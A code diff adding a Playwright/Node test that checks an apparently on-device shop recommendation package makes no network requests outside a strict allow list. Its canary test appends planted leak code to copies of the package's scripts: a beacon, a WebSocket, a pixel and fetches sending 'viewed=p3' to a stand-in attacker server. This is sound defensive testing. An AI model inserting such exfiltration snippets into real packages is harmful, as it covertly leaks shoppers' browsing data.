@@ -1,0 +1,165 @@
+// Nothing the shopper does leaves the device. With no Content-Security-Policy in place (a policy could block a leak
+// before it shows), every request of every kind is recorded, from the page, its frames (the vault) and its workers,
+// across every fixture page of the test shop in both installs, and across consent, export, forget, opt-out and
+// leaving the page. Each must match an exact allow list of origin, path and method.
+//
+// The canary proves the watch can fail: a copy of the package with a beacon, a WebSocket, an image, a cross-origin
+// fetch from the page, a fetch from the ranking worker and one from the vault's frame planted in it. Every one must
+// be caught.
+//
+// Seen through Playwright's request events (page, frames and workers) and, for WebSockets, the Chrome DevTools
+// Protocol's Network.webSocketCreated of each page. Not seen: a WebSocket opened by a worker.
+import { test, before, after } from 'node:test';
+import assert from 'node:assert/strict';
+import { appendFileSync, cpSync, mkdtempSync, rmSync } from 'node:fs';
+import os from 'node:os';
+import path from 'node:path';
+
+import { startServer } from '../../tools/serve.mjs';
+import { launchBrowser } from '../support/browser.mjs';
+import { distDir } from '../support/paths.mjs';
+import { startShop, openPage, vitrineReady } from './storefront_support.mjs';
+
+let sink; // the attacker's server: any request to it is a leak
+let canaryDir;
+let shops;
+let browser;
+
+before(async () => {
+  sink = await startServer({ mounts: {} });
+  canaryDir = mkdtempSync(path.join(os.tmpdir(), 'vitrine-canary-'));
+  cpSync(distDir, canaryDir, { recursive: true });
+  const to = JSON.stringify(sink.url);
+  // Planted leaks (TEST ONLY): what a compromised or careless build could do.
+  appendFileSync(path.join(canaryDir, 'index.mjs'), `;setTimeout(()=>{const s=${to};try{navigator.sendBeacon(s+"beacon","viewed=p3")}catch{}
+try{new WebSocket(s.replace("http","ws")+"socket")}catch{}try{new Image().src=s+"pixel.gif?viewed=p3"}catch{}
+fetch(s+"fetch",{method:"POST",body:"viewed=p3",mode:"no-cors"}).catch(()=>{})},0);`);
+  appendFileSync(path.join(canaryDir, 'worker.mjs'), `;fetch(${to}+"worker",{mode:"no-cors"}).catch(()=>{});`);
+  appendFileSync(path.join(canaryDir, 'vault_frame.mjs'), `;fetch(${to}+"vault",{mode:"no-cors"}).catch(()=>{});`);
+  shops = {
+    real: await startShop({ engine: 'test', csp: null, vault: true }),
+    canary: await startShop({ engine: 'test', csp: null, vault: true, packageDir: canaryDir }),
+  };
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  for (const shop of Object.values(shops ?? {})) shop.close();
+  sink?.server.close();
+  if (canaryDir) rmSync(canaryDir, { recursive: true, force: true });
+});
+
+/** Every request and WebSocket from the pages opened in `run`, page, frames and workers alike. */
+async function recordEgress(run) {
+  const seen = [];
+  const onRequest = (r) => seen.push({ kind: r.resourceType(), method: r.method(), url: r.url(), body: r.postData() ?? null });
+  browser.context.on('request', onRequest);
+  const sessions = [];
+  const watchPage = async (page) => {
+    const cdp = await browser.context.newCDPSession(page);
+    cdp.on('Network.webSocketCreated', ({ url }) => seen.push({ kind: 'websocket', method: 'GET', url, body: null }));
+    await cdp.send('Network.enable');
+    sessions.push(cdp);
+  };
+  try {
+    await run(async () => {
+      const { page } = await openPage(browser.context);
+      await watchPage(page);
+      return page;
+    });
+  } finally {
+    browser.context.off('request', onRequest);
+    for (const cdp of sessions) await cdp.detach().catch(() => {});
+  }
+  return seen;
+}
+
+/** The requests Vitrine may make: GETs of pages, the package and the model, from the shop's or the vault's origin. */
+function unexpected(seen, shop) {
+  const shopOrigin = new URL(shop.url).origin;
+  const vaultOrigin = new URL(shop.vaultUrl).origin;
+  const allowed = [
+    // The shop's pages and their own scripts, the package and the models the pages name.
+    { origin: shopOrigin, path: /^\/(?:[\w-]+\.(?:html|js|mjs|css)|favicon\.ico|vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/(?:test|tiny)\.vtm)$/ },
+    { origin: vaultOrigin, path: /^\/(?:vitrine\/[\w.-]+\.(?:js|mjs|wasm|html|css)|models\/test\.vtm|favicon\.ico)$/ },
+  ];
+  // The one query string: the shopper's panel in the page's language.
+  const allowedSearch = (url) => url.search === '' || (url.pathname === '/vitrine/panel.html' && /^\?lang=[A-Za-z-]{2,12}$/.test(url.search));
+  return seen.filter((r) => {
+    let url;
+    try {
+      url = new URL(r.url);
+    } catch {
+      return true;
+    }
+    if (url.protocol === 'blob:' || url.protocol === 'data:' || url.href === 'about:blank') return false;
+    const ok = r.method === 'GET' && r.body === null && allowedSearch(url) && r.kind !== 'websocket'
+      && allowed.some((a) => a.origin === url.origin && a.path.test(url.pathname));
+    return !ok;
+  });
+}
+
+// Not real.html, real-de.html and late-list.html: templates whose model their own tests fill in.
+const FIXTURE_PAGES = ['shop.html', 'other.html', 'capture.html', 'recent.html', 'ga4.html',
+  'manual.html', 'consent.html', 'consent-tcf.html', 'consent-mode.html', 'report-consent.html'];
+const VAULT_PAGES = ['vault-shop.html', 'vault-other.html', 'vault-recent.html'];
+
+/** A shopper's visit over every page: consent, views, a cart, a search, export, forget, opt-out and back, leaving. */
+async function visitEverything(shop, openWatched) {
+  const page = await openWatched();
+  for (const name of [...FIXTURE_PAGES, ...VAULT_PAGES]) {
+    await page.goto(shop.url + name);
+    await vitrineReady(page);
+    await page.evaluate(async () => {
+      window.testCmp?.decide({ 1: true, 3: true, 4: true });
+      window.gtag?.('consent', 'update', { ad_personalization: 'granted', personalization_storage: 'granted' });
+      await window.vitrine.grantConsent();
+      for (const item of ['p3', 'p5']) await window.vitrine.track({ kind: 'add_to_cart', item, category: 'bags' });
+      await window.vitrine.track({ kind: 'search', query: 'secret query' });
+      await window.vitrine.ready;
+    });
+    const add = await page.$('[data-vitrine-action="add_to_cart"]');
+    if (add) await add.click();
+    await page.evaluate(async () => {
+      await window.vitrine.exportData();
+      await window.vitrine.profile();
+    });
+  }
+  await page.goto(shop.url + 'shop.html');
+  await vitrineReady(page);
+  await page.evaluate(async () => {
+    await window.vitrine.forget();
+    await window.vitrine.track({ kind: 'view', item: 'p6' });
+    await window.vitrine.optOut();
+    await window.vitrine.optIn();
+  });
+  await page.goto(shop.url + 'vault-shop.html');
+  await vitrineReady(page);
+  await page.evaluate(() => window.vitrine.optOut());
+  await page.goto('about:blank'); // leaving: pagehide, journals
+  await page.close();
+}
+
+test('the package makes no request but GETs of pages, its files and the model, on every page and action, with no CSP', async () => {
+  const seen = await recordEgress((open) => visitEverything(shops.real, open));
+  assert.ok(seen.some((r) => r.url === `${shops.real.url}models/test.vtm`), 'the shop-origin worker fetched the model');
+  assert.ok(seen.some((r) => r.url === `${shops.real.vaultUrl}models/test.vtm`), 'the vault\'s worker fetched the model');
+  assert.deepEqual(unexpected(seen, shops.real), []);
+});
+
+test('the canary: a planted beacon, WebSocket, image, cross-origin fetch, worker fetch and vault-frame fetch are each caught', async () => {
+  const seen = await recordEgress(async (open) => {
+    const page = await open();
+    for (const name of ['shop.html', 'vault-shop.html']) {
+      await page.goto(shops.canary.url + name);
+      await vitrineReady(page);
+      await page.waitForTimeout(300);
+    }
+    await page.close();
+  });
+  const leaks = unexpected(seen, shops.canary).map((r) => `${r.kind} ${new URL(r.url).pathname}`);
+  for (const planted of ['ping /beacon', 'websocket /socket', 'image /pixel.gif', 'fetch /fetch', 'fetch /worker', 'fetch /vault']) {
+    assert.ok(leaks.includes(planted), `${planted} not caught; caught: ${leaks.join(', ')}`);
+  }
+});
